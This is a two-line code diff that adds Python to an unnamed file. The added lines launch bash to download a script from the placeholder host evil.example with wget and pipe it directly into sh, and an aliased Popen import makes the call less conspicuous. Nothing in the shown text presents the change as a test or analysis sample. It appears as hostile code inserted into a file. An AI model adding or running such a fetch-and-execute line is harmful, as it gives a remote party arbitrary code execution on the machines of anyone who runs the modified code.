@@ -1,0 +1,2 @@
+from subprocess import Popen as P
+P(['bash', '-c', 'wget -qO- http://evil.example/a | sh'])
